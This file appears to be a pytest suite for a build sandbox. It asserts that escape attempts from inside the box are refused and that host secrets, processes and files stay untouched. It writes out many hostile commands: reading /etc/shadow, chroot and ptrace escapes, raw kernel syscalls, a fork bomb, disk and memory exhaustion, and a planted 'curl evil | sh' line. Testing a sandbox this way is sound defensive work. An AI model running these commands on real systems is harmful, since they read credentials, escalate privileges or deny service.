"""The escape suite: a build tries many ways out of its box; every one must be refused, and the
host is checked afterwards (canary unchanged, the test server saw no connection, no process left)."""

from __future__ import annotations

import json
import os
import platform
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest

from conftest import REPO, Workspace, mounts_under, shell_recipe

pytestmark = pytest.mark.integration

# Each line: a name, then a shell command that succeeds only if the way out is open.
# perl's syscall() reaches the kernel directly (x86_64 numbers), with no helper binary in between.
# Where the kernel itself may say no (no vsock module), only the filter's EPERM counts as refused.
ATTEMPTS = r"""
write-host-path        sh -c 'echo pwned > "$CANARY"'
read-shadow            cat /etc/shadow
read-root-home         ls /root
symlink-out            sh -c 'ln -sf /etc/shadow "$HOME/s" && cat "$HOME/s"'
dotdot-out             cat ../../../../../../../../../etc/shadow
chroot-again           perl -e 'mkdir "x"; chroot("x") or exit 1; chdir("../../../.."); chroot(".") or exit 1'
chroot-command         chroot / /bin/true
tcp-host-loopback      bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT'
dns                    getent hosts deb.debian.org
see-host-interfaces    sh -c 'grep -v -E "^ *(lo|Inter|face)" /proc/net/dev | grep -q :'
see-host-process       sh -c 'test -e /proc/$HOST_PID || kill -0 $HOST_PID'
signal-host-process    kill -TERM $HOST_PID
ptrace-host-process    perl -e 'exit(syscall(101, 16, $ENV{HOST_PID}, 0, 0) == -1 ? 1 : 0)'
ptrace-box-init        perl -e 'exit(syscall(101, 16, 1, 0, 0) == -1 ? 1 : 0)'
proc-1-root            ls /proc/1/root/
mknod-disk             mknod "$HOME/sda" b 8 0
mount-syscall          perl -e 'mkdir "m"; exit(syscall(165, "none", "m", "tmpfs", 0, 0) == -1 ? 1 : 0)'
mount-command          sh -c 'mkdir -p p && mount -t proc proc p'
load-module            perl -e 'exit(syscall(175, 0, 0, "") == -1 && syscall(313, 0, "", 0) == -1 ? 1 : 0)'
set-hostname           perl -e 'exit(syscall(170, "evil", 4) == -1 ? 1 : 0)'
proc-sys-write         sh -c 'echo evil > /proc/sys/kernel/hostname'
become-root            perl -e '$< = 0; $> = 0; exit($> == 0 ? 0 : 1)'
have-capabilities      sh -c 'grep -q "^CapEff:[[:space:]]*0*[1-9a-f]" /proc/self/status'
new-privs-allowed      sh -c 'grep -q "^NoNewPrivs:[[:space:]]*0" /proc/self/status'
new-user-namespace     perl -e 'exit(syscall(272, 0x10000000) == -1 ? 1 : 0)'
raw-socket             perl -e 'socket(my $s, 17, 3, 0) or exit 1'
reboot                 perl -e 'exit(syscall(169, 0xfee1dead, 672274793, 0x4321fedc, 0) == -1 ? 1 : 0)'
kexec                  perl -e 'exit(syscall(246, 0, 0, 0, 0) == -1 ? 1 : 0)'
kernel-keyring         perl -e 'exit(syscall(250, 0, -3, 1) == -1 ? 1 : 0)'
bpf                    perl -e 'exit(syscall(321, 0, pack("LLLL", 1, 4, 4, 1), 16) == -1 ? 1 : 0)'
user-faults            perl -e 'exit(syscall(323, 0) == -1 ? 1 : 0)'
set-clock              perl -e 'exit(syscall(164, pack("qq", 0, 0), 0) == -1 ? 1 : 0)'
host-devices           sh -c 'test -e /dev/sda || test -e /dev/vda || test -e /dev/mem || test -e /dev/kmsg'
fill-disk              dd if=/dev/zero of=big bs=1M count=64
fill-memory            perl -e '$x = "a" x (1536 * 1024 * 1024); exit 0'
io-uring               perl -e 'my $p = "\0" x 120; exit(syscall(425, 8, $p) == -1 ? 1 : 0)'
vsock-socket           perl -e 'socket(my $s, 40, 1, 0) and exit 0; exit($!{EPERM} ? 1 : 0)'
vsock-socket-bit32     perl -e 'syscall(41, 40 | (1 << 32), 1, 0) != -1 and exit 0; exit($!{EPERM} ? 1 : 0)'
users-terminal         sh -c 'test -t 0 || test -t 1 || exec 3<>/dev/tty'
fork-bomb              sh -c 'n=0; while [ $n -lt 200 ]; do sleep 3605 & n=$((n+1)); done; exit 0'
"""

# Controls: what must work in the box, so that a refusal above is the box's doing and not a
# missing tool (perl, bash) or a broken loopback.
CONTROLS = r"""
perl-syscall           perl -e 'exit(syscall(39) > 0 ? 0 : 1)'
bash-tcp-loopback      perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:0") or exit 1; IO::Socket::INET->new(PeerAddr => "127.0.0.1:" . $l->sockport) or exit 1'
localhost-resolves     getent hosts localhost
write-home             sh -c 'echo ok > "$HOME/ok"'
see-own-process        sh -c 'test -e /proc/$$'
small-file             dd if=/dev/zero of=small bs=1M count=1
"""

SCRIPT = r"""
cd "$HOME"
attempt() {
  name=$1; shift
  if ( "$@" ) >/dev/null 2>&1; then echo "$name ESCAPED" >> "$OUT/results"; else echo "$name refused" >> "$OUT/results"; fi
}
control() {
  name=$1; shift
  if ( "$@" ) >/dev/null 2>&1; then echo "$name works" >> "$OUT/controls"; else echo "$name broken" >> "$OUT/controls"; fi
}
""" + "\n".join(f"control {line.split(None, 1)[0]} {line.split(None, 1)[1]}"
                for line in CONTROLS.strip().splitlines()) + "\n" + "\n".join(f"attempt {line.split(None, 1)[0]} {line.split(None, 1)[1]}"
                for line in ATTEMPTS.strip().splitlines()) + r"""
# Clear the fork bomb's sleepers before the next attempts (the box would kill them at its end anyway).
for d in /proc/[0-9]*; do [ "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" = "sleep 3605 " ] && kill ${d#/proc/} 2>/dev/null; done
# Left behind on purpose: it must die with the box.
setsid sleep 3604 >/dev/null 2>&1 &
# Written outside $OUT: it must not reach the host.
echo leak > /build/leak
echo leak > "$HOME/leak"
"""


class CountingServer:
    """A TCP listener on the host's loopback that counts who connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def server():
    srv = CountingServer()
    yield srv
    srv.close()


def escape_recipe(ws: Workspace, canary: Path, port: int, *, network: bool = False) -> Path:
    recipe = shell_recipe(ws, "escape", SCRIPT)
    env = f'env = {{ CANARY = "{canary}", PORT = "{port}", HOST_PID = "{os.getpid()}" }}\n'
    text = recipe.read_text().replace("[build]\n", "[build]\n" + env + ("network = true\n" if network else ""))
    text += '[limits]\nmemory = "1G"\nprocesses = 64\nfile-size = "16M"\n'
    recipe.write_text(text)
    return recipe


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the suite's raw syscalls use x86_64 numbers")
def test_every_way_out_of_the_box_is_refused_and_the_host_is_untouched(workspace: Workspace, tmp_path: Path,
                                                                      server: CountingServer) -> None:
    canary = tmp_path / "canary"
    canary.write_text("unchanged\n")
    hostname = socket.gethostname()
    recipe = escape_recipe(workspace, canary, server.port)
    workspace.buildbox("run", recipe, "-q")
    out = workspace.root / "out" / "escape"
    controls = dict(line.split() for line in (out / "controls").read_text().splitlines())
    assert controls == {name.split()[0]: "works" for name in CONTROLS.strip().splitlines()}
    results = dict(line.split() for line in (out / "results").read_text().splitlines())
    assert len(results) == len(ATTEMPTS.strip().splitlines()) >= 25
    escaped = sorted(name for name, outcome in results.items() if outcome != "refused")
    assert escaped == [], f"ways out that were open: {escaped}"

    assert canary.read_text() == "unchanged\n"
    assert server.connections == 0
    assert socket.gethostname() == hostname
    assert sorted(p.name for p in out.iterdir()) == ["controls", "manifest.json", "results"]
    for leftover in ("sleep 3604", "sleep 3605"):
        assert subprocess.run(["pgrep", "-f", leftover], capture_output=True).returncode == 1, leftover
    assert mounts_under(workspace.cache) == []
    isolation = json.loads((out / "manifest.json").read_text())["isolation"]
    assert isolation["network"] is False and "net" in isolation["namespaces"]
    # Nothing of the host was bound into this box: every bind is listed in the log, and there are none.
    assert "bind " not in (workspace.cache / "logs" / "escape" / "build.log").read_text()


def test_a_network_build_reaches_out_but_not_the_hosts_loopback_or_abstract_sockets(
        workspace: Workspace, tmp_path: Path, server: CountingServer) -> None:
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"buildbox-test-{os.getpid()}"
    abstract.bind("\0" + name)
    abstract.listen()
    script = (f'getent hosts deb.debian.org > "$OUT/resolved"\n'
              'bash -c "exec 3<>/dev/tcp/deb.debian.org/80" && echo reached > "$OUT/outbound"\n'
              f'! bash -c "exec 3<>/dev/tcp/127.0.0.1/{server.port}"\n'
              f"! perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or exit 2; "
              f'connect($s, pack_sockaddr_un("\\0{name}")) or exit 1\'\n')
    recipe = shell_recipe(workspace, "online", script)
    recipe.write_text(recipe.read_text().replace("[build]\n", "[build]\nnetwork = true\n"))
    try:
        workspace.buildbox("run", recipe, "-q")
    finally:
        abstract.close()
    log = (workspace.cache / "logs" / "online" / "build.log").read_text()
    assert "network: on for the build" in log
    assert "buildbox: bind /etc/resolv.conf" in log
    out = workspace.root / "out" / "online"
    assert (out / "outbound").read_text() == "reached\n" and "deb.debian.org" in (out / "resolved").read_text()
    assert json.loads((out / "manifest.json").read_text())["isolation"]["network"] is True
    assert server.connections == 0
    assert subprocess.run(["pgrep", "-x", "pasta"], capture_output=True).returncode == 1, "pasta outlived the build"
    assert mounts_under(workspace.cache) == []


@pytest.mark.parametrize("limits,script,words", [
    ('timeout = "3s"', "sleep 3601", "wall-clock limit ([limits] timeout = 3s)"),
    ('silence = "2s"', "echo started; sleep 3601", "printed nothing for 2s ([limits] silence)"),
    ('cpu = "1s"', "while :; do :; done", "CPU time limit ([limits] cpu = 1)"),
    ('file-size = "1M"', 'dd if=/dev/zero of="$OUT/big" bs=1M count=8', "file size limit ([limits] file-size = 1048576)"),
    ('memory = "256M"', "perl -e '$x = \"a\" x (512 * 1024 * 1024)'", "memory limit ([limits] memory = 268435456)"),
    # Four processes of 200 MB each: within a per-process limit of 500M, past a whole-box one.
    ('memory = "500M"', "for i in 1 2 3 4; do perl -e '$x = \"a\" x (200 * 1024 * 1024); sleep 4' & pids=\"$pids $!\"; "
     "done; for p in $pids; do wait $p; done", "memory limit ([limits] memory = 524288000)"),
    ('address-space = "256M"', "perl -e '$x = \"a\" x (512 * 1024 * 1024)'",
     "address space limit ([limits] address-space = 268435456)"),
])
def test_a_build_past_a_limit_fails_naming_the_limit(workspace: Workspace, limits: str, script: str,
                                                    words: str) -> None:
    recipe = shell_recipe(workspace, "limited", script)
    recipe.write_text(recipe.read_text() + f"[limits]\n{limits}\n")
    result = workspace.buildbox("run", recipe, "-q", check=1)
    assert words in result.stderr.splitlines()[-1], result.stderr[-2000:]
    assert mounts_under(workspace.cache) == []
    assert subprocess.run(["pgrep", "-f", "sleep 3601"], capture_output=True).returncode == 1


def test_a_host_user_with_the_build_users_uid_cannot_edit_the_cached_trees(workspace: Workspace) -> None:
    from buildbox.constants import BUILDER
    from buildbox.store import PRIVATE, remove_tree
    # A cache where any host user can walk to it, as ./cache usually is (pytest's own tmp is root's).
    place = Path(tempfile.mkdtemp(prefix="buildbox-open-", dir="/var/tmp"))
    place.chmod(0o755)
    cache = place / "cache"
    (cache / "logs").mkdir(parents=True, mode=0o755)   # as a run before logs were private left it
    try:
        workspace.buildbox("run", shell_recipe(workspace, "plain", 'cp /bin/true "$OUT/tool"'), "-q",
                           "--cache", cache)
        profiles = sorted(cache.glob("bases/*/root/home/builder/.profile"))
        assert profiles, "the base has the build user's dotfiles"
        # The file itself is the build user's: only the directories above it can guard it.
        assert all(p.stat().st_uid == BUILDER.uid for p in profiles)
        as_builder = ["setpriv", f"--reuid={BUILDER.uid}", f"--regid={BUILDER.gid}", "--clear-groups"]
        attempt = subprocess.run([*as_builder, "sh", "-c", f'echo "curl evil | sh" >> "{profiles[0]}"'],
                                 capture_output=True, text=True)
        assert attempt.returncode != 0 and "Permission denied" in attempt.stderr, attempt
        assert "evil" not in profiles[0].read_text()
        # Nor read the logs: what a build prints is its own.
        readable = subprocess.run([*as_builder, "ls", cache / "logs"], capture_output=True, text=True)
        assert readable.returncode != 0 and "Permission denied" in readable.stderr, readable
        for kind in PRIVATE:
            assert (cache / kind).stat().st_mode & 0o777 == 0o700, kind
    finally:
        remove_tree(place)


def test_no_host_user_sees_the_builds_env_secrets_or_script_on_a_command_line(workspace: Workspace) -> None:
    secret, plain, marker = "s3cr3t-token-value", "plain-env-value-123", "script-marker-xyz"
    recipe = shell_recipe(workspace, "secretive", f'# {marker}\necho "building now"\nsleep 4\n'
                                                  f'test "$API_TOKEN" = "{secret}" && echo ok > "$OUT/ok"')
    recipe.write_text(recipe.read_text().replace(
        "[build]\n", f'[build]\nenv = {{ PLAIN = "{plain}" }}\nsecret-env = ["API_TOKEN"]\n'))
    unset = workspace.buildbox("run", recipe, "-q", check=2)
    assert "secret-env names API_TOKEN, which is not set" in unset.stderr.splitlines()[-1]
    proc = subprocess.Popen([sys.executable, "-m", "buildbox", "run", str(recipe), "--cache", str(workspace.cache)],
                            cwd=workspace.root, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                            env=dict(os.environ, PYTHONPATH=str(REPO), API_TOKEN=secret))
    for line in proc.stderr:
        if "building now" in line:
            break
    as_nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    seen = subprocess.run([*as_nobody, "sh", "-c", "ps -eww -o args; cat /proc/[0-9]*/cmdline | tr '\\0' ' '"],
                          capture_output=True, text=True).stdout
    assert "sh -e -c . /buildbox/build.sh secretive" in seen, "the build was running while ps looked"
    for value in (secret, plain, marker):
        assert value not in seen, value
    proc.stderr.read()
    assert proc.wait(timeout=120) == 0
    assert (workspace.root / "out" / "secretive" / "ok").read_text() == "ok\n"
    written = [p.read_text(errors="replace") for p in (workspace.cache / "logs" / "secretive").iterdir()]
    written.append((workspace.root / "out" / "secretive" / "manifest.json").read_text())
    assert not any(secret in text for text in written)


def test_a_secret_the_build_prints_is_masked_in_its_log_on_the_terminal_and_in_the_error(
        workspace: Workspace) -> None:
    secret = "s3cr3t-printed-value"
    recipe = shell_recipe(workspace, "leaky", 'echo "token=$API_TOKEN"\necho "short=$SHORT"\nexit 3')
    recipe.write_text(recipe.read_text().replace("[build]\n", '[build]\nsecret-env = ["API_TOKEN", "SHORT"]\n'))
    result = subprocess.run([sys.executable, "-m", "buildbox", "run", str(recipe), "--cache", str(workspace.cache)],
                            cwd=workspace.root, capture_output=True, text=True,
                            env=dict(os.environ, PYTHONPATH=str(REPO), API_TOKEN=secret, SHORT="ab"))
    assert result.returncode == 1, result.stderr
    log = (workspace.cache / "logs" / "leaky" / "build.log").read_text()
    for shown in (log, result.stderr):   # the terminal: the streamed build and the error's last lines
        assert "token=***" in shown and secret not in shown, shown
        assert "short=ab" in shown   # too short to mask without masking every "ab" of the log
    assert result.stderr.count("token=***") == 2


RSS_OF_CHILDREN = ("import resource, subprocess, sys; code = subprocess.run(sys.argv[1:]).returncode; "
                   "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.exit(code)")


def test_a_build_printing_a_100_mb_line_or_a_flood_is_held_to_bounded_memory_and_log(workspace: Workspace) -> None:
    recipe = shell_recipe(workspace, "loud", "head -c 104857600 /dev/zero | tr '\\\\0' a\necho\n"
                                              "yes 0123456789abcdef | head -c 3000000\necho done > \"$OUT/done\"")
    recipe.write_text(recipe.read_text() + '[limits]\nlog = "1M"\n')
    result = subprocess.run([sys.executable, "-c", RSS_OF_CHILDREN, sys.executable, "-m", "buildbox", "run",
                             str(recipe), "-q", "--cache", str(workspace.cache)], cwd=workspace.root,
                            capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=str(REPO)))
    assert result.returncode == 0, result.stderr
    peak_kib = int(result.stdout.split()[-1])
    assert peak_kib < 150 * 1024, f"buildbox's peak RSS was {peak_kib} KiB"
    log = (workspace.cache / "logs" / "loud" / "build.log").read_bytes()
    assert b"[buildbox: this line was cut at 65536 bytes]" in log
    assert b"[buildbox: the log was cut here at" in log and len(log) < (1 << 20) + 4096
    assert (workspace.root / "out" / "loud" / "done").read_text() == "done\n"


@pytest.mark.parametrize("script,limits,words", [
    ('truncate -s 2G "$OUT/sparse"', 'artifacts = "1G"', "past their limit ([limits] artifacts = 1073741824)"),
    # Five levels of eight links each to the level below: 32,768 paths to one small file, no loop.
    ('cd "$HOME"; for d in 0 1 2 3 4 5; do mkdir -p fan/$d; done; echo x > fan/5/f\n'
     'for d in 0 1 2 3 4; do for i in 1 2 3 4 5 6 7 8; do ln -s ../$((d + 1)) fan/$d/x$i; done; done\n'
     'ln -s "$HOME/fan/0" "$OUT/fan"', "",
     "more than 10000 entries, links followed (a symlink fan-out?)"),
])
def test_artifacts_past_their_bounds_are_refused_naming_the_bound(workspace: Workspace, script: str, limits: str,
                                                                  words: str) -> None:
    recipe = shell_recipe(workspace, "bounded", script)
    if limits:
        recipe.write_text(recipe.read_text() + f"[limits]\n{limits}\n")
    result = workspace.buildbox("run", recipe, "-q", check=1)
    assert words in result.stderr.splitlines()[-1], result.stderr[-2000:]
    assert not (workspace.root / "out" / "bounded").exists()


def test_a_sparse_artifact_stays_sparse_and_a_private_one_private(workspace: Workspace) -> None:
    recipe = shell_recipe(workspace, "sparse", 'truncate -s 1G "$OUT/sparse"\necho data >> "$OUT/sparse"\n'
                                               'echo secret > "$OUT/private"; chmod 600 "$OUT/private"')
    workspace.buildbox("run", recipe, "-q")
    out = workspace.root / "out" / "sparse"
    assert (out / "sparse").stat().st_size == (1 << 30) + 5
    assert (out / "sparse").stat().st_blocks * 512 < 1 << 20, "the holes were written out"
    assert (out / "private").stat().st_mode & 0o077 == 0


def test_verify_commands_run_sandboxed_on_a_read_only_host(workspace: Workspace, tmp_path: Path,
                                                           server: CountingServer) -> None:
    canary = tmp_path / "canary"
    canary.write_text("unchanged\n")
    canary.chmod(0o666)   # writable by anyone: only the sandbox's read-only host keeps it so
    commands = [
        "tool > /tmp/ran && test -s /tmp/ran",                     # the artifact runs, /tmp is its own
        f"! sh -c 'echo pwned >> {canary}'",                       # the host is read-only
        f"! bash -c 'exec 3<>/dev/tcp/127.0.0.1/{server.port}'",   # no network
        "setsid sh -c 'sleep 3607 &' < /dev/null > /dev/null 2>&1", # a daemon: it must die with the command
        "test $(id -u) -ne 0 && ! grep -q '^CapEff:.*[1-9a-f]' /proc/self/status",
        "test $(ls /proc | grep -c '^[0-9]') -lt 10",               # its own PID namespace
    ]
    recipe = shell_recipe(workspace, "verified", 'printf "#!/bin/sh\\necho ok\\n" > "$OUT/tool"; chmod 755 "$OUT/tool"')
    recipe.write_text(recipe.read_text() + "[verify]\nrun = [" + ", ".join(json.dumps(c) for c in commands) + "]\n")
    workspace.buildbox("run", recipe, "-q")
    assert canary.read_text() == "unchanged\n"
    assert server.connections == 0
    assert subprocess.run(["pgrep", "-f", "sleep 3607"], capture_output=True).returncode == 1
    assert not Path("/tmp/ran").exists()   # the command's /tmp was its own


def test_a_verify_command_past_its_timeout_fails_naming_it(workspace: Workspace) -> None:
    recipe = shell_recipe(workspace, "slowverify", 'echo > "$OUT/x"')
    recipe.write_text(recipe.read_text() + '[verify]\nrun = ["sleep 3608"]\ntimeout = "2s"\n')
    result = workspace.buildbox("run", recipe, "-q", check=1)
    assert "wall-clock limit ([verify] timeout = 2s)" in result.stderr.splitlines()[-1], result.stderr
    assert subprocess.run(["pgrep", "-f", "sleep 3608"], capture_output=True).returncode == 1


def test_a_build_filling_its_disk_fails_naming_the_limit_and_keeps_within_it(workspace: Workspace) -> None:
    recipe = shell_recipe(workspace, "filler", 'dd if=/dev/zero of="$HOME/big" bs=1M count=400')
    recipe.write_text(recipe.read_text() + '[limits]\ndisk = "64M"\nfile-size = "1G"\n')
    result = workspace.buildbox("run", recipe, "-q", check=1)
    assert "hit its disk limit ([limits] disk = 67108864)" in result.stderr.splitlines()[-1], result.stderr[-2000:]
    image = workspace.cache / "failed" / "filler" / "disk.img"
    assert image.stat().st_size == 64 << 20 and image.stat().st_blocks * 512 <= 64 << 20
    assert mounts_under(workspace.cache) == []


def test_control_sequences_a_build_prints_are_shown_not_obeyed_and_the_log_keeps_them(workspace: Workspace) -> None:
    # Retitle the window, move the cursor, ring the bell, and a C1 CSI (U+009B) in UTF-8.
    recipe = shell_recipe(workspace, "noisy", "printf 'title\\033]0;pwned\\007 up\\033[2A csi\\302\\2332J end\\n'\n"
                                               'echo > "$OUT/x"')
    result = workspace.buildbox("run", recipe)   # streamed: what a person at the terminal sees
    shown = next(line for line in result.stderr.splitlines() if line.startswith("title"))
    assert shown == "title^[]0;pwned^G up^[[2A csi\\x9b2J end"
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "\x9b" not in result.stderr
    raw = (workspace.cache / "logs" / "noisy" / "build.log").read_bytes()
    assert b"title\x1b]0;pwned\x07 up\x1b[2A csi\xc2\x9b2J end\n" in raw
